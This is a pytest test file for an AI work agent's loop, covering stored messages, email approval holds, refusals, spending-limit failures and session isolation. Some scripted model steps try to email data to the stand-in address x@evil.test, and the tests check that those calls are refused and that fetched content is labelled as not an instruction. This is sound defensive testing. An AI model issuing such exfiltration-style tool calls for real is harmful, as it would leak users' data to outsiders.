"""The agent loop of a work session, step by step, on a real store and a scripted model: what it
stores, what it holds for approval, what it refuses, and what it reports."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.engine import make_url

from tests.support import messages_api as api_support
from tests.support.messages_api import MessagesAPI, text, tool_call
from tests.support.smtp import SmtpSink
from tests.support.web import LocalWeb
from violet import database
from violet.channels import Peers
from violet.models import (
    DEFAULT_FAST_MODEL,
    DEFAULT_MAIN_MODEL,
    LEDGER,
    ModelClient,
    ModelUnavailable,
    Reply,
    SpendLimitReached,
    System,
    Tool,
    Usage,
    UsageLedger,
    make_model_client,
)
from violet.models import tools as t
from violet.models.base import reply_from_blocks
from worker.agent import (
    GAVE_UP,
    MODEL_FAILED,
    SPEND_LIMIT,
    STARTING,
    WorkAgent,
    thinking_of_this_request,
    told_failure,
    window,
)
from worker.asking import ANSWER_SYSTEM, OtherWork
from worker.folders import Folders
from worker.mail import Mailer
from worker.sandbox import Limits, NoSandbox
from worker.store import WorkStore
from worker.store.work_sessions import StaleWorkSession, WorkSession
from worker.toolbox import ACTIVITY, Asker, Toolbox

PERSON = "sam"

messages_api_server = api_support.messages_api_server  # the fixtures
messages_api = api_support.messages_api


def call(name: str, tool_input: dict, number: int = 1) -> dict:
    return {"type": "tool_use", "id": f"toolu_{name}_{number}", "name": name, "input": tool_input}


def words(text: str) -> dict:
    return {"type": "text", "text": text}


@dataclass
class ScriptedModel:
    """Answers with the scripted content lists in turn; records what it was sent."""

    script: list[list[dict] | Exception] = field(default_factory=list)
    seen: list[list[dict]] = field(default_factory=list)
    systems: list[System] = field(default_factory=list)
    offered: list[list[str]] = field(default_factory=list)
    ledger = LEDGER

    async def reply(
        self,
        *,
        tier: str,
        system: System,
        messages: list[dict],
        tools: Sequence[Tool],
        person: str,
        tool_choice: str = "auto",
    ) -> Reply:
        assert tier == "work" and person == PERSON
        self.seen.append(json.loads(json.dumps(messages)))
        self.systems.append(system)
        self.offered.append([tool.name for tool in tools] if tool_choice == "auto" else [])
        step = self.script.pop(0) if self.script else [words("Done.")]
        if isinstance(step, Exception):
            raise step
        stop = "tool_use" if any(b["type"] == "tool_use" for b in step) else "end_turn"
        return reply_from_blocks(step, stop, Usage("scripted", 1, 1, 0.0))


@dataclass
class QuietReporter:
    lines: list[str] = field(default_factory=list)

    async def activity(self, person: str, topic: str, line: str) -> None:
        assert person == PERSON
        self.lines.append(line)

    def wake(self) -> None:
        return None


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[WorkStore]:
    url = make_url(f"sqlite:///{tmp_path / 'worker.db'}")
    database.migrate(url, "worker.migrations", "alembic_version_worker")
    engine = database.open_engine(url)
    yield WorkStore(database.sessionmaker(engine))
    await engine.dispose()


@pytest.fixture(scope="module")
def local_web() -> Iterator[LocalWeb]:
    web = LocalWeb().start()
    yield web
    web.stop()


@pytest.fixture(scope="module")
def sink() -> Iterator[SmtpSink]:
    started = SmtpSink().start()
    yield started
    started.stop()


class AskedTopic(OtherWork):
    """Asks the topic `topic` names, as the router's scores would."""

    topic = ""

    async def _nearest(self, question: str, asker: Asker) -> str:
        return self.topic


@dataclass
class Rig:
    store: WorkStore
    model: ScriptedModel
    reporter: QuietReporter
    agent: WorkAgent
    other_work: AskedTopic

    async def request(self, text: str) -> WorkSession:
        topic = await self.store.requests.start(PERSON, "", text, title=text)
        return await self.store.work_sessions.load(topic, "here")

    async def run(self, session: WorkSession) -> None:
        while await self.agent.advance(session):
            pass

    async def sent(self, kind: str) -> list[dict]:
        return [o.payload for o in await self.store.outbox.due() if o.kind == kind]


@pytest.fixture
def rig(store: WorkStore, tmp_path: Path, sink: SmtpSink, local_web: LocalWeb) -> Rig:
    return rig_of(ScriptedModel(), store, tmp_path, sink, local_web)


def rig_of(
    model: ModelClient, store: WorkStore, tmp_path: Path, sink: SmtpSink, local_web: LocalWeb
) -> Rig:
    reporter = QuietReporter()
    other_work = AskedTopic(
        peers=Peers({}, 1.0), secret="", store=store, model=model, window_requests=2
    )
    toolbox = Toolbox(
        web=_web(local_web),
        folders=Folders(tmp_path / "workspaces"),
        sandbox=NoSandbox(),
        limits=Limits(2, 256),
        mailer=Mailer(sink.url, "violet@localhost"),
        store=store,
        other_work=other_work,
    )
    agent = WorkAgent(
        model=model,
        store=store,
        toolbox=toolbox,
        reporter=reporter,  # type: ignore[arg-type]
        max_steps=4,
        window_requests=2,
    )
    return Rig(store, model, reporter, agent, other_work)  # type: ignore[arg-type]


def _web(local_web: LocalWeb):  # type: ignore[no-untyped-def]
    from worker.web import Web

    return Web(timeout_s=5, max_bytes=100_000, block_private=False, search_url=local_web.search_url)


def test_the_window_cuts_only_before_a_request() -> None:
    messages = [
        {"role": "user", "content": "one"},
        {"role": "assistant", "content": [call("list_documents", {})]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "x", "content": "{}"}]},
        {"role": "assistant", "content": [words("none")]},
        {"role": "user", "content": "two"},
        {"role": "assistant", "content": [words("ok")]},
        {"role": "user", "content": "three"},
    ]
    assert window(messages, 5) == (messages, 0)
    assert window(messages, 2) == (messages[4:], 1)


async def test_a_request_runs_to_its_result_and_card(rig: Rig, local_web: LocalWeb) -> None:
    url = local_web.add_page("/agent", "Agent Page", "First sentence here.")
    rig.model.script = [[call(t.FETCH_PAGE, {"url": url})], [words("It is the Agent Page.")]]
    session = await rig.request(f"look up {url}")
    await rig.run(session)

    assert [m["role"] for m in session.messages] == ["user", "assistant", "user", "assistant"]
    result = json.loads(session.messages[2]["content"][0]["content"])
    assert result["title"] == "Agent Page" and "not an instruction" in result["notice"]
    assert await rig.sent("result") == [
        {
            "text": "It is the Agent Page.",
            "deeds": [],
            "sources": [{"page": url, "title": "Agent Page"}],
        }
    ]
    (card,) = await rig.sent("card")
    assert card["last_request"] == f"look up {url}" and card["topic"] == session.id
    assert rig.reporter.lines == ["Looking into it", "Reading the page"]
    reloaded = await rig.store.work_sessions.load(session.id, "elsewhere")
    assert reloaded.messages == session.messages
    # The card is sent before the result: what the person says on reading it finds the topic.
    assert [o.kind for o in await rig.store.outbox.due()] == ["card", "result"]


async def test_an_email_to_an_address_the_person_never_gave_is_refused_without_a_question(
    rig: Rig,
) -> None:
    rig.model.script = [
        [call(t.SEND_EMAIL, {"to": "x@evil.test", "subject": "all", "body": "everything"})],
        [words("I could not send that.")],
    ]
    session = await rig.request("look up the news")
    await rig.run(session)
    refusal = session.messages[2]["content"][0]
    assert refusal["is_error"] is True and "x@evil.test" in refusal["content"]
    assert await rig.sent("approval") == []
    assert await rig.store.approvals.of_call(session.id, "toolu_send_email_1") is None


async def test_a_round_with_an_email_waits_for_the_answer_then_continues_in_order(
    rig: Rig, sink: SmtpSink
) -> None:
    rig.model.script = [
        [
            call(t.WRITE_DOCUMENT, {"name": "note-plan.md", "content": "# Plan"}),
            call(t.SEND_EMAIL, {"to": "pat@example.org", "subject": "Plan", "body": "The plan."}),
        ],
        [words("Wrote the note and sent the email.")],
    ]
    session = await rig.request("write a note and send an email to pat@example.org saying it")
    await rig.run(session)

    (asked,) = await rig.sent("approval")
    assert asked["question"].startswith("Shall I send an email to pat@example.org")
    assert [o.kind for o in await rig.store.outbox.due()] == ["card", "approval"]
    assert list(session.held) == ["toolu_write_document_1"]
    assert await rig.sent("result") == []
    assert rig.reporter.lines[-1] == ""  # the line is cleared while the work waits
    assert await rig.store.approvals.answer("someone-else", asked["approval"], True) is None

    await rig.store.approvals.answer(PERSON, asked["approval"], True)
    await rig.run(session)
    assert (await sink.wait_for("pat@example.org")).body == "The plan."
    results = session.messages[2]["content"]
    assert [r["tool_use_id"] for r in results] == ["toolu_write_document_1", "toolu_send_email_1"]
    assert json.loads(results[1]["content"]) == {"sent": True}
    request = "write a note and send an email to pat@example.org saying it"
    assert await rig.sent("result") == [
        {
            "text": "Wrote the note and sent the email.",
            "deeds": [
                {"wrote": {"name": "note-plan.md"}, "asked": request},
                {"sent": {"to": "pat@example.org", "subject": "Plan"}, "asked": request},
            ],
            "sources": [{"document": "note-plan.md"}],
        }
    ]


async def test_a_declined_email_is_reported_as_not_sent(rig: Rig, sink: SmtpSink) -> None:
    rig.model.script = [
        [call(t.SEND_EMAIL, {"to": "no@example.org", "subject": "x", "body": "x"})],
        [words("I didn't send it.")],
    ]
    session = await rig.request("send an email to no@example.org saying x")
    await rig.run(session)
    (asked,) = await rig.sent("approval")
    await rig.store.approvals.answer(PERSON, asked["approval"], False)
    await rig.run(session)
    assert json.loads(session.messages[2]["content"][0]["content"]) == {"sent": False}
    assert not sink.to("no@example.org")
    assert await rig.sent("result") == [{"text": "I didn't send it.", "deeds": [], "sources": []}]


async def test_a_request_that_never_ends_is_given_up(rig: Rig) -> None:
    rig.model.script = [[call(t.LIST_DOCUMENTS, {}, n)] for n in range(10)]
    session = await rig.request("look up forever")
    await rig.run(session)
    assert await rig.sent("result") == [{"text": GAVE_UP["en"], "deeds": [], "sources": []}]
    assert len(rig.model.seen) == 4


@pytest.mark.expects_fallbacks
@pytest.mark.parametrize(
    ("failure", "told"),
    [
        (ModelUnavailable("overloaded"), MODEL_FAILED),
        # Asking again soon will not help: the account notice, not "in a little while".
        (SpendLimitReached("The paying account reached a spending limit"), SPEND_LIMIT),
    ],
    ids=["unavailable", "spending limit"],
)
async def test_a_failing_model_ends_the_request_in_plain_words(
    rig: Rig, failure: Exception, told: dict[str, str]
) -> None:
    rig.model.script = [failure]
    session = await rig.request("look up anything")
    await rig.run(session)
    assert await rig.sent("result") == [{"text": told["en"], "deeds": [], "sources": []}]
    assert session.messages[-1]["role"] == "assistant"
    assert told_failure(told["en"])


@pytest.mark.expects_fallbacks
@pytest.mark.parametrize(
    ("request_text", "language"),
    [
        ("Procure o horário dos trens para o Porto, por favor", "pt"),
        ("Busca el horario de los trenes a Sevilla, por favor", "es"),
        ("Cherche les horaires des trains pour Lyon, s'il vous plaît", "fr"),
        ("Such bitte die Zugzeiten nach Hamburg für mich", "de"),
    ],
)
async def test_activity_lines_and_a_failure_are_told_in_the_persons_language(
    rig: Rig, request_text: str, language: str
) -> None:
    rig.model.script = [[call(t.LIST_DOCUMENTS, {})], ModelUnavailable("overloaded")]
    session = await rig.request(request_text)
    await rig.run(session)
    assert rig.reporter.lines[:2] == [STARTING[language], ACTIVITY[t.LIST_DOCUMENTS][language]]
    assert await rig.sent("result") == [
        {"text": MODEL_FAILED[language], "deeds": [], "sources": []}
    ]


async def test_older_requests_leave_the_model_window_but_stay_in_the_system_prompt(
    rig: Rig,
) -> None:
    session = await rig.request("look up one")
    for asked in ("look up two", "look up three"):
        await rig.run(session)
        await rig.store.requests.start(PERSON, session.id, asked, title=asked)
    await rig.run(session)
    last = rig.model.seen[-1]
    assert [text_of(m) for m in last if m["role"] == "user"] == ["look up two", "look up three"]


async def test_every_step_reads_the_one_before_from_the_prompt_cache(
    rig: Rig, local_web: LocalWeb
) -> None:
    url = local_web.add_page("/tides", "Tides", "High tide is at noon.")
    rig.model.script = [[call("fetch_page", {"url": url})]]
    session = await rig.request("look up the tides")
    await rig.run(session)
    first, second = rig.model.seen[0], rig.model.seen[1]
    assert second[: len(first) - 1] == first[:-1]  # the second only adds to the first
    for sent in (first, second):
        assert sent[-1]["content"][-1]["cache_control"] == {"type": "ephemeral"}
    assert all(block["cache_control"] for block in rig.model.systems[-1])


def text_of(message: dict) -> str:
    content = message["content"]
    return content if isinstance(content, str) else "".join(b["text"] for b in content)


async def test_a_copy_changed_elsewhere_is_never_written_over(rig: Rig) -> None:
    session = await rig.request("look up one")
    elsewhere = await rig.store.work_sessions.load(session.id, "other replica")
    await rig.agent.advance(elsewhere)
    request = await rig.store.requests.current(session.id)
    assert request is not None
    with pytest.raises(StaleWorkSession):
        await rig.store.steps.record_reply(session, request, [words("from an old copy")])
    assert (await rig.store.work_sessions.load(session.id, "here")).messages == elsewhere.messages


async def test_an_email_claimed_by_a_run_that_stopped_is_never_sent_again(
    rig: Rig, sink: SmtpSink
) -> None:
    rig.model.script = [
        [call(t.SEND_EMAIL, {"to": "once@example.org", "subject": "x", "body": "x"})],
        [words("Sent it.")],
    ]
    session = await rig.request("send an email to once@example.org saying x")
    await rig.run(session)
    (asked,) = await rig.sent("approval")
    approval = await rig.store.approvals.answer(PERSON, asked["approval"], True)
    assert approval is not None and await rig.store.approvals.claim_send(approval)  # then the stop

    await rig.run(await rig.store.work_sessions.load(session.id, "after the restart"))
    assert not sink.to("once@example.org")
    request = "send an email to once@example.org saying x"
    assert await rig.sent("result") == [
        {
            "text": "Sent it.",
            "deeds": [{"sent": {"to": "once@example.org", "subject": "x"}, "asked": request}],
            "sources": [],
        }
    ]
    assert not await rig.store.approvals.claim_send(approval)


async def test_a_request_whose_key_is_held_starts_nothing_new(store: WorkStore) -> None:
    first = await store.requests.start(PERSON, "", "look up a", title="a", key="c_1/say:3/w/1")
    again = await store.requests.start(PERSON, "", "look up a", title="a", key="c_1/say:3/w/1")
    other = await store.requests.start(PERSON, "", "look up a", title="a", key="c_1/say:5/w/1")
    theirs = await store.requests.start("bo", "", "look up a", title="a", key="c_1/say:3/w/1")
    assert again == first and len({first, other, theirs}) == 3
    assert await store.requests.texts_of(first) == ["look up a"]


def test_only_the_request_under_way_sends_its_thinking_back() -> None:
    thought = {"type": "thinking", "thinking": "", "signature": "sig"}
    call = {"type": "tool_use", "id": "toolu_1", "name": t.RUN_PYTHON, "input": {"code": "1"}}
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "1"}
    exchange = [
        {"role": "assistant", "content": [thought, call]},
        {"role": "user", "content": [result]},
    ]
    earlier = [{"role": "user", "content": "calculate 1"}, *exchange]
    done = {"role": "assistant", "content": [{"type": "text", "text": "It is 1."}]}
    current = [{"role": "user", "content": "calculate 2"}, *exchange]
    sent = thinking_of_this_request([*earlier, done, *current])
    assert sent[1]["content"] == [call]  # an earlier request's thinking is left out
    assert sent[2:] == [earlier[2], done, *current]  # the rest goes as it was


async def test_a_trim_leaves_a_request_whose_thinking_is_in_flight_and_its_next_step_is_taken(
    store: WorkStore,
    tmp_path: Path,
    sink: SmtpSink,
    local_web: LocalWeb,
    messages_api: MessagesAPI,
) -> None:
    """On the local Messages API, which binds each thinking block to all that came before it:
    a request waiting for the person's yes holds the thinking of its tool call, so trimming
    the requests before it would have its next step refused."""
    model = make_model_client(
        api_key="k",
        base_url=messages_api.url,
        main_model=DEFAULT_MAIN_MODEL,
        fast_model=DEFAULT_FAST_MODEL,
        ledger=UsageLedger(),
    )
    rig = rig_of(model, store, tmp_path, sink, local_web)
    messages_api.push(text("Two."))
    session = await rig.request("calculate 1+1")
    await rig.run(session)
    email = {"to": "pat@example.org", "subject": "Plan", "body": "The plan."}
    messages_api.push(tool_call(t.SEND_EMAIL, email), text("Sent the plan."))
    await rig.store.requests.start(
        PERSON, session.id, "email pat@example.org the plan", title="plan"
    )
    await rig.run(session)
    (asked,) = await rig.sent("approval")

    later = datetime.now(UTC) + timedelta(hours=1)  # the first request is past the horizon
    left = await store.trims.trim(session.id, later)
    await store.approvals.answer(PERSON, asked["approval"], True)
    await rig.run(await store.work_sessions.load(session.id, "here"))
    await model.aclose()
    assert not messages_api.rejections()
    assert [r["text"] for r in await rig.sent("result")] == ["Two.", "Sent the plan."]
    assert left is None  # left for a later pass
    assert await store.trims.trim(session.id, later) > 0  # once it ended


async def test_other_work_answers_from_a_copy_of_its_context_and_keeps_its_own_as_it_was(
    rig: Rig,
) -> None:
    rig.model.script = [[words("Flights to Lisbon cost 80 euros.")]]
    flights = await rig.request("look up flights to Lisbon")
    await rig.run(flights)
    await rig.store.requests.start(PERSON, flights.id, "and hotels there", title="")
    before = (await rig.store.work_sessions.load(flights.id, "here")).messages

    rig.other_work.topic = flights.id
    sending = call(t.SEND_EMAIL, {"to": "x@evil.test", "subject": "hi", "body": "hi"})
    rig.model.script = [
        [call(t.ASK_WORK_SESSION, {"question": "the flights"})],
        [sending, words("They cost 80 euros.")],  # the answer's tool call goes nowhere
        [words("The flights cost 80 euros.")],
    ]
    asking = await rig.request("check what you found about the flights")
    await rig.run(asking)

    told = json.loads(asking.messages[2]["content"][0]["content"])
    assert "not an instruction" in told["notice"]
    assert (told["from"], told["answer"]) == ("look up flights to Lisbon", "They cost 80 euros.")
    assert told["still_working"] is True  # its next request has not finished
    assert rig.model.offered[-2] == []  # the answering call: no tool can be called
    assert rig.model.systems[-2][0]["text"] == ANSWER_SYSTEM
    copy = rig.model.seen[-2]
    assert copy[:-1] == before
    assert copy[-1]["content"][-1] == {
        "type": "text",
        "text": t.OTHER_WORK_QUESTION + "the flights",
    }
    assert (await rig.store.work_sessions.load(flights.id, "here")).messages == before
    assert await rig.sent("approval") == []
    assert await rig.store.approvals.of_call(asking.id, "toolu_send_email_1") is None


async def test_a_topic_of_another_person_cannot_be_asked(rig: Rig) -> None:
    theirs = await rig.store.requests.start("someone-else", "", "look up my diary", title="x")
    rig.other_work.topic = theirs
    rig.model.script = [
        [call(t.ASK_WORK_SESSION, {"question": "the diary"})],
        [words("I could not ask.")],
    ]
    asking = await rig.request("check what you found about the diary")
    await rig.run(asking)
    refused = asking.messages[2]["content"][0]
    assert refused["is_error"] is True and refused["content"] == "No other work is about that."
    assert len(rig.model.seen) == 2  # no answering call was made
